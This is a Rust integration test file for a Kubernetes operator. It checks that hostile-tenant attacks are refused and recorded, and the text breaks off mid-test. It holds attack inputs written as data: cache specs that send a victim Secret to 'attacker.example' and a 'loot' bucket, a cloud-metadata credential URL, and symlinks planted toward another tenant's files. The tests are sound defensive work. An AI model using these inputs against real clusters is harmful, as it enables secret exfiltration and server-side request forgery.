//! A namespace user attacking the others, against the real API server: a store outside its
//! namespace selector, a namespace past its quota, a copy Job that could reach other tenants'
//! folders, a Secret handed to the mover by someone who may not read it, a forged Ready from a
//! Pod running as the mover's account, links planted in its store folder, caches named like
//! another cache's partial file, sources that lie about their size to the real mover, a source
//! at an internal address (directly or through a redirect), a copy Pod changing the size it asked
//! room for. Each attack is refused with a clear reason, nothing of the other tenant's is lost,
//! and each is recorded in the bad-input corpus. Forged Jobs are in tests/forged_jobs.rs.

use templatecache_test_support as support;

use std::process::Stdio;
use std::time::Duration;

use k8s_openapi::api::batch::v1::Job;
use k8s_openapi::api::core::v1::{Namespace, Pod};
use kube::api::{DeleteParams, Patch, PatchParams, PostParams};
use kube::{Api, Client};
use serde_json::{Value, json};
use support::corpus::record;
use support::eventually;
use support::http_server::{HttpServer, LYING_HEAD_BYTES};
use support::jobs::{wait_for_cache, wait_for_cache_gone};
use support::ranged_server::RangedServer;
use support::rig::{Rig, random_bytes, ready_reason, sha256, stop_observer, store_files};
use support::tenant::{account, client_as, kubectl_ok, template};
use support::tools::helm_offline;
use support::{TestNamespace, kubectl};
use templatecache::controller::Config as OperatorConfig;
use templatecache_api::reasons::cache as reason;
use templatecache_api::{Phase, StagingStore, TemplateCache, TemplateCacheClaim};
use templatecache_mover::address::classify;

const MIB: usize = 1 << 20;

async fn patch_store(rig: &Rig, spec: Value) {
    Api::<StagingStore>::all(rig.ns.client.clone())
        .patch(
            &rig.store().name,
            &PatchParams::default(),
            &Patch::Merge(json!({ "spec": spec })),
        )
        .await
        .expect("patch the store's tenancy rules");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_store_outside_the_namespace_selector_starts_no_job_until_the_namespace_is_admitted() {
    let rig = Rig::new("tenant-sel", 3).await;
    let label = format!("{}-admitted", rig.ns.name);
    patch_store(
        &rig,
        json!({"namespaceSelector": {"matchLabels": {"templatecache.io/tenant": label}}}),
    )
    .await;
    let server = HttpServer::start().await;
    let (bytes, spec) = template(&server, "disk.img");
    rig.create("image", spec).await;

    let message = ready_reason(&rig.ns, "image", reason::STORE_NOT_ALLOWED).await;
    record(
        "hostile tenant: a cache in a namespace outside the StagingStore's namespaceSelector",
        &format!(
            "refused room, Ready reason {}: {message}",
            reason::STORE_NOT_ALLOWED
        ),
    );
    for part in [
        rig.store().name.as_str(),
        rig.ns.name.as_str(),
        label.as_str(),
    ] {
        assert!(
            message.contains(part),
            "the refusal names {part}: {message}"
        );
    }
    let jobs = rig
        .ns
        .api::<Job>()
        .list(&Default::default())
        .await
        .expect("Jobs");
    assert!(
        jobs.items.is_empty(),
        "no Job, so no Pod mounts the store for this namespace"
    );
    assert!(
        rig.files().is_empty(),
        "nothing is written: {:?}",
        rig.files()
    );

    // The same cache gets its room once its namespace carries the label.
    let labels = json!({"metadata": {"labels": {"templatecache.io/tenant": label}}});
    Api::<Namespace>::all(rig.ns.client.clone())
        .patch(&rig.ns.name, &PatchParams::default(), &Patch::Merge(labels))
        .await
        .expect("label the namespace");
    rig.assert_copied("image", &bytes).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_namespace_past_its_quota_gets_no_room_and_its_first_copy_is_untouched() {
    let rig = Rig::new("tenant-quota", 3).await;
    patch_store(&rig, json!({"namespaceQuota": "1Mi"})).await;
    let server = HttpServer::start().await;
    let (first, spec) = template(&server, "first.img");
    rig.create("first", spec).await;
    rig.assert_copied("first", &first).await;

    let (_, spec) = template(&server, "second.img");
    rig.create("second", spec).await;
    let message = ready_reason(&rig.ns, "second", reason::QUOTA_EXCEEDED).await;
    record(
        "hostile tenant: a namespace copying past the StagingStore's namespaceQuota (1Mi held, 1Mi more asked)",
        &format!(
            "refused room, Ready reason {}: {message}",
            reason::QUOTA_EXCEEDED
        ),
    );
    let quota = MIB.to_string();
    for part in [rig.store().name.as_str(), rig.ns.name.as_str(), &quota] {
        assert!(
            message.contains(part),
            "the refusal names {part}: {message}"
        );
    }
    assert_eq!(rig.files(), ["first"], "the second copy wrote nothing");
    assert_eq!(std::fs::read(rig.data("first")).expect("first"), first);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_copy_job_mounts_only_its_namespaces_folder_of_the_store() {
    let rig = Rig::new("tenant-subpath", 3).await;
    let server = HttpServer::start().await;
    let (bytes, spec) = template(&server, "disk.img");
    rig.create("image", spec).await;
    rig.assert_copied("image", &bytes).await;

    let job: Job = rig.ns.api().get("image-copy-1").await.expect("copy Job");
    let pod = job.spec.expect("spec").template.spec.expect("pod spec");
    let container = &pod.containers[0];
    let mount = &container.volume_mounts.as_ref().expect("mounts")[0];
    assert_eq!(mount.sub_path.as_deref(), Some(rig.ns.name.as_str()));
    let args = container.args.clone().unwrap_or_default();
    assert!(
        args.contains(&format!("--dest={}/image", mount.mount_path)),
        "the mover writes inside the mounted folder: {args:?}"
    );
}

/// The chart's admission policies for a release whose mover account is `mover`, bound to
/// `namespace` only (the control plane is shared with other tests), applied; deleted on drop.
struct Policies {
    manifest: String,
}

impl Policies {
    fn install(namespace: &str, mover: &str) -> Self {
        let release = format!("p{}", std::process::id());
        let out = helm_offline()
            .args(["template", &release, "charts/templatecache-operator"])
            .args(["--namespace", namespace])
            .args(["--set", &format!("copyJobs.serviceAccountName={mover}")])
            // The test makes the copy Job's Pods itself, as the admin, in the Job controller's
            // place (there is no Job controller here).
            .args(["--set-json", r#"copyJobs.podCreators=["admin"]"#])
            .args(["--show-only", "templates/admissionpolicies.yaml"])
            .output()
            .expect("helm template");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let mut objects = vec![];
        for doc in serde_yaml::Deserializer::from_str(&String::from_utf8_lossy(&out.stdout)) {
            let mut object: Value = serde::Deserialize::deserialize(doc).expect("YAML");
            if object.is_null() {
                continue;
            }
            // Bound to this test's release, with other names: unique per test binary.
            let name = object["metadata"]["name"]
                .as_str()
                .unwrap_or_default()
                .to_owned();
            object["metadata"]["name"] = json!(format!("{name}-{namespace}"));
            if object["kind"] == "ValidatingAdmissionPolicyBinding" {
                let policy = object["spec"]["policyName"].as_str().unwrap_or_default();
                object["spec"]["policyName"] = json!(format!("{policy}-{namespace}"));
                object["spec"]["matchResources"] = json!({"namespaceSelector":
                    {"matchLabels": {"kubernetes.io/metadata.name": namespace}}});
            }
            objects.push(object);
        }
        assert_eq!(objects.len(), 6, "three policies and their bindings");
        let manifest =
            serde_json::to_string(&json!({"apiVersion": "v1", "kind": "List", "items": objects}))
                .expect("manifest");
        kubectl_stdin(&["apply", "-f", "-"], &manifest).expect("apply the policies");
        Self { manifest }
    }
}

impl Drop for Policies {
    fn drop(&mut self) {
        let _ = kubectl_stdin(&["delete", "--ignore-not-found", "-f", "-"], &self.manifest);
    }
}

/// Policies take effect a moment after they are created (the API server compiles them in the
/// background): waits until `probe`, a dry run of an attack, is refused.
async fn until_refused<F, T>(what: &str, probe: impl Fn() -> F)
where
    F: std::future::Future<Output = kube::Result<T>>,
{
    let awaited = format!("the admission policies refuse {what}");
    eventually(&awaited, Duration::from_secs(30), || async {
        probe().await.is_err().then_some(())
    })
    .await
}

fn dry_run() -> PatchParams {
    PatchParams {
        dry_run: true,
        ..PatchParams::default()
    }
}

fn kubectl_stdin(args: &[&str], input: &str) -> Result<String, String> {
    let mut child = kubectl()
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("kubectl");
    std::io::Write::write_all(&mut child.stdin.take().expect("stdin"), input.as_bytes())
        .expect("write to kubectl");
    let out = child.wait_with_output().expect("kubectl output");
    if out.status.success() {
        Ok(String::from_utf8_lossy(&out.stdout).into_owned())
    } else {
        Err(String::from_utf8_lossy(&out.stderr).into_owned())
    }
}

fn refusal(result: Result<impl std::fmt::Debug, kube::Error>, what: &str) -> String {
    match result {
        Err(kube::Error::Api(status)) => status.message,
        other => panic!("{what} must be refused, got {other:?}"),
    }
}

/// Creating `object` as `client` in `namespace` is refused with a message that says `why`; the
/// message goes to the corpus as `case`.
async fn assert_create_refused<K: support::Namespaced>(
    client: &Client,
    namespace: &str,
    object: Value,
    case: &str,
    why: &str,
) {
    let object: K = serde_json::from_value(object).expect("object literal");
    let result = Api::<K>::namespaced(client.clone(), namespace)
        .create(&PostParams::default(), &object)
        .await;
    let message = refusal(result, case);
    record(case, &message);
    assert!(message.contains(why), "{message}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tenant_cannot_hand_the_mover_a_secret_it_may_not_read() {
    let rig = Rig::namespace("tenant-secret").await;
    let ns = &rig.ns;
    let _policies = Policies::install(&ns.name, "unused-mover");
    kubectl_ok(&[
        "-n",
        &ns.name,
        "create",
        "secret",
        "generic",
        "victim",
        "--from-literal=token=s3cr3t",
    ]);
    let caches = "templatecaches.templatecache.io,templatecacheclaims.templatecache.io";
    let write = ["--verb=create,get", "--resource", caches];
    account(&ns.name, "tenant", &[&write]).await;
    account(
        &ns.name,
        "reader",
        &[&write, &["--verb=get", "--resource=secrets"]],
    )
    .await;
    let tenant = client_as(&ns.name, "tenant", None).await;
    let reader = client_as(&ns.name, "reader", None).await;

    let http =
        json!({"http": {"url": "http://attacker.example/x", "secretRef": {"name": "victim"}}});
    let s3 = json!({"s3": {"bucket": "loot", "key": "k", "secretRef": {"name": "victim"}}});
    let oci =
        json!({"oci": {"reference": "attacker.example/loot:v1", "secretRef": {"name": "victim"}}});
    until_refused("a cache naming a Secret", || {
        let api: Api<TemplateCache> = Api::namespaced(tenant.clone(), &ns.name);
        let cache: TemplateCache = serde_json::from_value(json!({
            "apiVersion": "templatecache.io/v1alpha1", "kind": "TemplateCache",
            "metadata": {"name": "probe"}, "spec": {"source": http}
        }))
        .expect("cache");
        async move {
            let dry = PostParams {
                dry_run: true,
                ..PostParams::default()
            };
            api.create(&dry, &cache).await
        }
    })
    .await;
    let attempts = [
        (
            "a TemplateCache naming Secret victim in spec.source.http.secretRef",
            "cache",
            json!({"source": http}),
            "spec.source.http.secretRef",
        ),
        (
            "a TemplateCache naming Secret victim in spec.source.s3.secretRef",
            "cache",
            json!({"source": s3}),
            "spec.source.s3.secretRef",
        ),
        (
            "a TemplateCache naming Secret victim in spec.source.oci.secretRef",
            "cache",
            json!({"source": oci}),
            "spec.source.oci.secretRef",
        ),
        (
            "a TemplateCacheClaim whose OCI template names Secret victim",
            "claim",
            json!({"cacheName": "loot-oci", "template": {"source": oci}}),
            "spec.template.source.oci.secretRef",
        ),
        (
            "a TemplateCacheClaim whose template names Secret victim",
            "claim",
            json!({"cacheName": "loot", "template": {"source": http}}),
            "spec.template.source.http.secretRef",
        ),
    ];
    for (i, (case, kind, spec, field)) in attempts.into_iter().enumerate() {
        let name = format!("steal-{i}");
        let result = create(&tenant, &ns.name, kind, &name, spec.clone()).await;
        let message = refusal(result, case);
        record(
            &format!("hostile tenant (secret exfiltration): {case}, by a user who may not read it"),
            &message,
        );
        for part in [field, "victim", "may not get Secret"] {
            assert!(
                message.contains(part),
                "the refusal names {part}: {message}"
            );
        }
        // Someone who may read the Secret may use it: the policy judges the creator.
        create(&reader, &ns.name, kind, &name, spec)
            .await
            .unwrap_or_else(|e| panic!("{case} by a reader of the Secret is admitted: {e}"));
    }
    create(
        &tenant,
        &ns.name,
        "cache",
        "plain",
        json!({"source": {"http": {"url": "http://example/x"}}}),
    )
    .await
    .expect("a cache without credentials is admitted");
}

async fn create(
    client: &Client,
    ns: &str,
    kind: &str,
    name: &str,
    spec: Value,
) -> kube::Result<()> {
    let pp = PostParams::default();
    if kind == "cache" {
        let cache: TemplateCache =
            serde_json::from_value(json!({"apiVersion": "templatecache.io/v1alpha1",
            "kind": "TemplateCache", "metadata": {"name": name}, "spec": spec}))
            .expect("cache");
        Api::namespaced(client.clone(), ns)
            .create(&pp, &cache)
            .await
            .map(drop)
    } else {
        let claim: TemplateCacheClaim =
            serde_json::from_value(json!({"apiVersion": "templatecache.io/v1alpha1",
            "kind": "TemplateCacheClaim", "metadata": {"name": name}, "spec": spec}))
            .expect("claim");
        Api::namespaced(client.clone(), ns)
            .create(&pp, &claim)
            .await
            .map(drop)
    }
}

/// A Pod running as `account`, created as the Job controller would (`generate_name`) or under a
/// name of the attacker's choice.
async fn mover_pod(
    ns: &TestNamespace,
    account: &str,
    name: Option<&str>,
    generate: Option<&str>,
) -> Pod {
    let pod: Pod = serde_json::from_value(json!({
        "metadata": {"name": name, "generateName": generate},
        "spec": {"serviceAccountName": account, "containers": [{"name": "mover", "image": "x"}]}
    }))
    .expect("pod");
    ns.api()
        .create(&PostParams::default(), &pod)
        .await
        .expect("create the Pod")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pod_running_as_the_mover_cannot_forge_ready_and_nothing_ungates() {
    // The copy Job never runs (no mover account in the namespace, so the Job controller cannot
    // make its Pod): the cache stays Copying unless someone lies.
    let rig = Rig::builder("tenant-forge")
        .store("1Gi")
        .operator()
        .start()
        .await;
    let ns = &rig.ns;
    let mover = format!("mover-{}", std::process::id());
    let _policies = Policies::install(&ns.name, &mover);
    account(
        &ns.name,
        &mover,
        &[&[
            "--verb=get,patch",
            "--resource=templatecaches.templatecache.io,templatecaches.templatecache.io/status",
        ]],
    )
    .await;
    ns.create_cache(
        "image",
        json!({"source": {"http": {"url": "http://example/x"}}}),
    )
    .await;
    wait_for_cache(&ns.client, &ns.name, "image", "Copying", |c| {
        c.status.as_ref().and_then(|s| s.job_name.as_deref()) == Some("image-copy-1")
    })
    .await;
    let consumer: Pod = serde_json::from_value(json!({
        "metadata": {"name": "consumer", "labels": {"templatecache.io/cache": "image"}},
        "spec": {"schedulingGates": [{"name": "templatecache.io/ready"}],
                 "serviceAccountName": mover, "automountServiceAccountToken": false,
                 "containers": [{"name": "app", "image": "x"}]}
    }))
    .expect("consumer");
    ns.api::<Pod>()
        .create(&PostParams::default(), &consumer)
        .await
        .expect("gated Pod");

    let job_pod = mover_pod(ns, &mover, None, Some("image-copy-1-")).await;
    let impostor = mover_pod(ns, &mover, Some("evil"), None).await;
    let forged = json!({"status": {"phase": "Ready", "size": 1,
        "checksum": format!("sha256:{}", "0".repeat(64)),
        "progress": {"attempt": 1, "bytesCopied": 1, "totalBytes": 1, "checksum": format!("sha256:{}", "0".repeat(64))}}});
    let probe: Api<TemplateCache> =
        Api::namespaced(client_as(&ns.name, &mover, Some(&impostor)).await, &ns.name);
    until_refused("a forged status", || {
        let probe = probe.clone();
        let forged = forged.clone();
        async move {
            let patch = Patch::Merge(&forged);
            probe.patch_status("image", &dry_run(), &patch).await
        }
    })
    .await;
    let attempts = [
        (
            "forged Ready from a Pod of the namespace running as the mover's account",
            Some(&impostor),
            "only a Pod of the current copy Job image-copy-1",
        ),
        (
            "forged Ready from a Pod of the current copy Job",
            Some(&job_pod),
            "may change only status.progress",
        ),
        (
            "forged Ready with a mover token bound to no Pod",
            None,
            "only a Pod of the current copy Job",
        ),
    ];
    for (case, pod, expected) in attempts {
        let client = client_as(&ns.name, &mover, pod).await;
        let caches: Api<TemplateCache> = Api::namespaced(client, &ns.name);
        let result = caches
            .patch_status("image", &PatchParams::default(), &Patch::Merge(&forged))
            .await;
        let message = refusal(result, case);
        record(&format!("hostile tenant (forged status): {case}"), &message);
        assert!(message.contains(expected), "{case}: {message}");
    }
    // Nor can a namespace user make such a Pod (or a Job to make it) run as the mover.
    let workloads = "--resource=pods,jobs.batch";
    account(&ns.name, "tenant", &[&["--verb=create", workloads]]).await;
    let tenant = client_as(&ns.name, "tenant", None).await;
    assert_create_refused::<Pod>(
        &tenant,
        &ns.name,
        json!({
            "metadata": {"name": "image-copy-1-zzzzz"},
            "spec": {"serviceAccountName": mover, "containers": [{"name": "m", "image": "x"}]}
        }),
        "hostile tenant (forged status): a Pod named like the copy Job's Pod, running as the mover's account",
        "only the Job controller may create Pods",
    )
    .await;
    assert_create_refused::<Job>(
        &tenant,
        &ns.name,
        json!({
            "metadata": {"name": "image-copy-2"},
            "spec": {"template": {"spec": {"serviceAccountName": mover, "restartPolicy": "Never",
                     "containers": [{"name": "m", "image": "x"}]}}}
        }),
        "hostile tenant (forged status): a Job under the next attempt's name, running as the mover's account",
        "only the templatecache operator may create Jobs",
    )
    .await;

    // The real mover's one right: progress, from a Pod of the current Job.
    let progress =
        json!({"status": {"progress": {"attempt": 1, "bytesCopied": 7, "totalBytes": 9}}});
    let client = client_as(&ns.name, &mover, Some(&job_pod)).await;
    Api::<TemplateCache>::namespaced(client, &ns.name)
        .patch_status("image", &PatchParams::default(), &Patch::Merge(&progress))
        .await
        .expect("the current Job's Pod reports progress");

    tokio::time::sleep(Duration::from_secs(3)).await;
    let cache: TemplateCache = ns.api().get("image").await.expect("cache");
    let status = cache.status.expect("status");
    assert_ne!(status.phase, Some(Phase::Ready), "no forged Ready landed");
    assert_eq!(status.progress.map(|p| p.bytes_copied), Some(7));
    let consumer: Pod = ns.api().get("consumer").await.expect("consumer");
    let gates = consumer
        .spec
        .and_then(|s| s.scheduling_gates)
        .unwrap_or_default();
    assert_eq!(gates.len(), 1, "the consumer Pod stays gated");
}

/// The room a copy gets is what its mover asked for in `status.progress.totalBytes`, written with
/// the copy Pod's token (which `kubectl exec` into the Pod gives away). Asking is allowed once:
/// after the store has answered for the attempt, the size is fixed, and progress still flows.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_copy_pod_cannot_change_the_size_it_asked_room_for() {
    // The copy Job never runs (no mover account in the namespace); the test's Pod reports as
    // its mover would.
    let rig = Rig::builder("tenant-room")
        .store("1Gi")
        .operator()
        .start()
        .await;
    let ns = &rig.ns;
    let mover = format!("mover-{}", std::process::id());
    let _policies = Policies::install(&ns.name, &mover);
    account(
        &ns.name,
        &mover,
        &[&[
            "--verb=get,patch",
            "--resource=templatecaches.templatecache.io,templatecaches.templatecache.io/status",
        ]],
    )
    .await;
    ns.create_cache(
        "image",
        json!({"source": {"http": {"url": "http://example/x"}}}),
    )
    .await;
    wait_for_cache(&ns.client, &ns.name, "image", "Copying", |c| {
        c.status.as_ref().and_then(|s| s.job_name.as_deref()) == Some("image-copy-1")
    })
    .await;
    let job_pod = mover_pod(ns, &mover, None, Some("image-copy-1-")).await;
    let caches: Api<TemplateCache> =
        Api::namespaced(client_as(&ns.name, &mover, Some(&job_pod)).await, &ns.name);
    let report = |progress: Value| Patch::Merge(json!({"status": {"progress": progress}}));
    until_refused("a status write beyond progress", || {
        let caches = caches.clone();
        async move {
            let forged = Patch::Merge(json!({"status": {"phase": "Ready"}}));
            caches.patch_status("image", &dry_run(), &forged).await
        }
    })
    .await;

    // The mover's ask, as it reports it before a byte is written; the store grants it.
    let asked = 1_000;
    let params = PatchParams::default();
    caches
        .patch_status(
            "image",
            &params,
            &report(json!({"attempt": 1, "bytesCopied": 0, "totalBytes": asked})),
        )
        .await
        .expect("the copy Pod asks for room");
    wait_for_cache(&ns.client, &ns.name, "image", "room granted", |c| {
        c.status
            .as_ref()
            .and_then(|s| s.storage.as_ref())
            .is_some_and(|s| s.admitted)
    })
    .await;

    let forgeries = [
        (
            "a copy Pod grows totalBytes once room is granted",
            json!({"attempt": 1, "bytesCopied": 0, "totalBytes": 500_u64 << 30}),
        ),
        (
            "a copy Pod shrinks totalBytes once room is granted",
            json!({"attempt": 1, "bytesCopied": 0, "totalBytes": 1}),
        ),
        (
            "a copy Pod drops totalBytes once room is granted",
            json!({"attempt": 1, "bytesCopied": 0, "totalBytes": null}),
        ),
    ];
    for (case, progress) in forgeries {
        let result = caches
            .patch_status("image", &params, &report(progress))
            .await;
        let message = refusal(result, case);
        record(&format!("hostile tenant (forged room): {case}"), &message);
        assert!(
            message.contains("status.progress.totalBytes may not change")
                && message.contains("1000 bytes"),
            "{case}: {message}"
        );
    }
    // Progress of the same size still passes, as the real mover's does.
    caches
        .patch_status(
            "image",
            &params,
            &report(json!({"attempt": 1, "bytesCopied": 400, "bytesLanded": 400,
                           "totalBytes": asked, "percent": "40%"})),
        )
        .await
        .expect("progress of the size asked for");
    let cache: TemplateCache = ns.api().get("image").await.expect("cache");
    let status = cache.status.expect("status");
    let progress = status.progress.expect("progress");
    assert_eq!(
        (progress.bytes_copied, progress.total_bytes),
        (400, Some(asked))
    );
    assert_eq!(status.storage.and_then(|s| s.bytes), Some(asked));
}

const TENANT_B_DATA: &[u8] = b"tenant B's template, which tenant A must never reach";
const OUTSIDE_DATA: &[u8] = b"a file of the node, outside the store";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn links_planted_in_a_tenants_folder_never_lead_the_mover_or_the_remover_out_of_it() {
    let rig = Rig::new("tenant-links", 1).await;
    let server = HttpServer::start().await;
    // Tenant B's folder in the same store, and a file outside the store.
    let team_b = rig.store().dir.path().join(format!("{}-b", rig.ns.name));
    std::fs::create_dir_all(&team_b).expect("tenant B's folder");
    let b_file = team_b.join("image");
    std::fs::write(&b_file, TENANT_B_DATA).expect("tenant B's data");
    let outside = tempfile::tempdir().expect("outside the store");
    let outside_file = outside.path().join("node-file");
    std::fs::write(&outside_file, OUTSIDE_DATA).expect("outside data");
    let untouched = || {
        assert_eq!(std::fs::read(&b_file).expect("B's file"), TENANT_B_DATA);
        assert_eq!(
            std::fs::read(&outside_file).expect("node file"),
            OUTSIDE_DATA
        );
        let b_files: Vec<String> = store_files(&team_b).into_iter().map(|f| f.0).collect();
        assert_eq!(b_files, ["image"], "nothing written into B's folder");
    };
    // What a Pod of tenant A's namespace, mounting A's folder, can plant there.
    let folder = rig.make_folders();
    // Returns how the mover names the link: by its path from the store's root (its mount in
    // the copy Pod).
    let link = |target: &std::path::Path, at: &str| {
        std::os::unix::fs::symlink(target, folder.join(at)).expect("plant a link");
        format!("/{at}")
    };
    let cases = [
        (
            "image",
            link(&b_file, "image"),
            "a link at the cache's own name, to tenant B's cache file",
        ),
        (
            "other",
            link(&outside_file, ".partial/other-1"),
            "a link at the cache's partial file, to a file outside the store",
        ),
    ];
    for (cache, _, _) in &cases {
        let (_, spec) = template(&server, &format!("{cache}.img"));
        rig.create(cache, spec).await;
    }
    for (cache, planted, case) in &cases {
        let message = rig.failed_for_good(cache).await;
        record(
            &format!("hostile tenant (symlink redirection): {case}"),
            &message,
        );
        for part in [planted.as_str(), "symbolic link", "never follows a link"] {
            assert!(message.contains(part), "{cache}: names {part}: {message}");
        }
    }
    untouched();

    // Removing the cache whose name is a link removes the link, never what it points to.
    rig.ns
        .api::<TemplateCache>()
        .delete("image", &DeleteParams::default())
        .await
        .expect("delete the cache");
    wait_for_cache_gone(&rig.ns.client, &rig.ns.name, "image").await;
    assert!(
        folder.join("image").symlink_metadata().is_err(),
        "the planted link went with the cache"
    );
    untouched();
    record(
        "hostile tenant (symlink redirection): deleting a cache whose name is a link to tenant B's cache file",
        "the remove Job unlinked the link itself; tenant B's file is intact",
    );

    // The partial folder itself a link to tenant B's folder.
    std::fs::remove_dir_all(folder.join(".partial")).expect("clear the partial folder");
    let planted = link(&team_b, ".partial");
    let (_, spec) = template(&server, "third.img");
    rig.create("third", spec).await;
    let message = rig.failed_for_good("third").await;
    record(
        "hostile tenant (symlink redirection): the partial folder a link to tenant B's folder",
        &message,
    );
    for part in [planted.as_str(), "symbolic link"] {
        assert!(message.contains(part), "names {part}: {message}");
    }
    untouched();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn caches_named_like_each_others_partial_files_keep_their_own_bytes() {
    let rig = Rig::new("tenant-clash", 3).await;
    let server = HttpServer::start().await;
    // `img.partial-1` was the partial file of cache `img`'s first attempt, and is a legal name.
    let (clash_bytes, spec) = template(&server, "clash.img");
    rig.create("img.partial-1", spec).await;
    rig.assert_copied("img.partial-1", &clash_bytes).await;
    let (img_bytes, spec) = template(&server, "img.img");
    rig.create("img", spec).await;
    rig.assert_copied("img", &img_bytes).await;
    // Digests, not bytes, so a failure prints two lines rather than a megabyte.
    let clash = || {
        std::fs::read(rig.data("img.partial-1"))
            .ok()
            .map(|b| sha256(&b))
    };
    let intact = Some(sha256(&clash_bytes));
    assert_eq!(clash(), intact, "img's copy left it alone");

    rig.ns
        .api::<TemplateCache>()
        .delete("img", &DeleteParams::default())
        .await
        .expect("delete img");
    wait_for_cache_gone(&rig.ns.client, &rig.ns.name, "img").await;
    let left = rig.files();
    record(
        "hostile tenant (partial-name clash): caches img and img.partial-1 (the old name of img's first partial file) copied, then img deleted",
        &format!(
            "both copied byte for byte; after img's removal the store holds {left:?} and img.partial-1's {} bytes are intact",
            clash_bytes.len()
        ),
    );
    assert_eq!(
        left,
        ["img.partial-1"],
        "img's removal took only img's data"
    );
    assert_eq!(clash(), intact, "img's removal left it alone");
    rig.assert_copied("img.partial-1", &clash_bytes).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_source_sending_more_than_its_head_announced_fails_and_fills_nothing() {
    let rig = Rig::with_store("tenant-lying", 1, "4Mi", json!({})).await;
    let server = HttpServer::start().await;
    server.put("huge.img", &random_bytes(16 * MIB));
    let (peak, sampler) = rig.sample_usage();
    let url = server.url("lying/huge.img");
    rig.create("huge", json!({"source": {"http": {"url": url}}}))
        .await;

    let message = rig.failed_for_good("huge").await;
    stop_observer(sampler, "usage sampler");
    let (disk, reported) = *peak.lock().expect("peak");
    record(
        "hostile tenant (lying size): a source whose HEAD announces 1024 bytes and whose GET sends 16 MiB, into a 4Mi store",
        &format!(
            "{message} (most bytes ever in the tenant's folder: {disk}; store usage at most {reported})"
        ),
    );
    let announced = format!("sent more than the {LYING_HEAD_BYTES} bytes it announced");
    assert!(message.contains(&announced), "{message}");
    assert!(
        disk <= LYING_HEAD_BYTES,
        "{disk} bytes landed past the reservation"
    );
    assert!(
        reported <= 4 * MIB as u64,
        "store usage {reported} past its capacity"
    );
    assert!(rig.files().is_empty(), "nothing left: {:?}", rig.files());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_ranged_source_answering_parts_longer_than_asked_fails_within_its_reservation() {
    const SIZE: usize = 64 * MIB; // four parts of the Jobs' 16 MiB: the parallel path
    let rig = Rig::new("tenant-long-parts", 1).await;
    let server = RangedServer::start().await;
    server.put("disk.img", random_bytes(SIZE));
    let (peak, sampler) = rig.sample_usage();
    let url = server.url("long-parts", "disk.img");
    rig.create("disk", json!({"source": {"http": {"url": url}}}))
        .await;

    let message = rig.failed_for_good("disk").await;
    stop_observer(sampler, "usage sampler");
    let (disk, _) = *peak.lock().expect("peak");
    record(
        "hostile tenant (lying size): a ranged source answering each 16 MiB part of a 64 MiB object with twice the bytes asked for",
        &format!("{message} (most bytes ever in the tenant's folder: {disk})"),
    );
    let part = 16 * MIB;
    assert!(
        message.contains(&format!("sent more than the {part} bytes it announced")),
        "{message}"
    );
    assert!(
        disk <= SIZE as u64,
        "{disk} bytes landed past the reservation"
    );
    let gets = server.gets();
    assert!(
        gets.iter().all(|g| g.range.is_some()),
        "parts only: {gets:?}"
    );
    assert!(rig.files().is_empty(), "nothing left: {:?}", rig.files());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn internal_addresses_are_refused_with_the_default_config_before_any_request() {
    // The operator's defaults: no internal destination allowed (the chart's default too).
    let rig = Rig::with_config("tenant-metadata", |cfg| {
        cfg.jobs.allow_internal_addresses = OperatorConfig::default().jobs.allow_internal_addresses;
    })
    .await;
    rig.create(
        "metadata",
        json!({"source": {"http": {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}}}),
    )
    .await;
    let message = rig
        .refused_for_good(
            "metadata",
            &["169.254.169.254", "link-local", "--allow-internal-address"],
        )
        .await;
    record(
        "hostile tenant (internal address): a cache of http://169.254.169.254/latest/meta-data/ with the operator's default config",
        &format!(
            "Failed for good, Ready reason {}: {message}",
            reason::ADDRESS_NOT_ALLOWED
        ),
    );

    // An internal Service stands in as a real server on the tests' source address (loopback,
    // or the node's private address): it sees no request at all, whether the URL names its
    // address or a name that resolves to an internal one.
    let service = HttpServer::start().await;
    let (_, spec) = template(&service, "internal.img");
    rig.create("service", spec).await;
    let by_name = format!("http://localhost:{}/internal.img", service.addr.port());
    rig.create(
        "service-by-name",
        json!({"source": {"http": {"url": by_name}}}),
    )
    .await;
    let kind = classify(service.addr.ip())
        .expect("the tests' sources are internal")
        .to_string();
    let message = rig
        .refused_for_good("service", &[&*service.addr.ip().to_string(), &*kind])
        .await;
    record(
        "hostile tenant (internal address): a cache of an internal server (loopback) with the operator's default config",
        &format!(
            "Failed for good, Ready reason {}, no request reached the server: {message}",
            reason::ADDRESS_NOT_ALLOWED
        ),
    );
    let message = rig
        .refused_for_good("service-by-name", &["localhost", "127.0.0.1 is loopback"])
        .await;
    record(
        "hostile tenant (internal address): a cache of a host name that resolves to loopback, default config",
        &format!(
            "Failed for good, Ready reason {}, no request reached the server: {message}",
            reason::ADDRESS_NOT_ALLOWED
        ),
    );
    assert_eq!(service.requests(), 0, "the internal server saw no request");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_redirect_from_an_allowed_host_to_an_internal_one_is_refused() {
    // Two servers on the tests' source address told apart by port: only the allowed one's
    // address and port is named (address:port entries are how a Service is allowed).
    let allowed = HttpServer::start().await;
    let internal = HttpServer::start().await;
    let entry = allowed.addr.to_string();
    let rig = Rig::with_config("tenant-redirect", move |cfg| {
        cfg.jobs.allow_internal_addresses = vec![entry.parse().expect("entry")];
    })
    .await;
    let (_, secret) = template(&internal, "secret.img");
    let secret_url = secret["source"]["http"]["url"]
        .as_str()
        .expect("url")
        .to_owned();
    rig.create(
        "redirected",
        json!({"source": {"http": {"url": allowed.redirect("to-internal", &secret_url)}}}),
    )
    .await;
    let message = rig
        .refused_for_good(
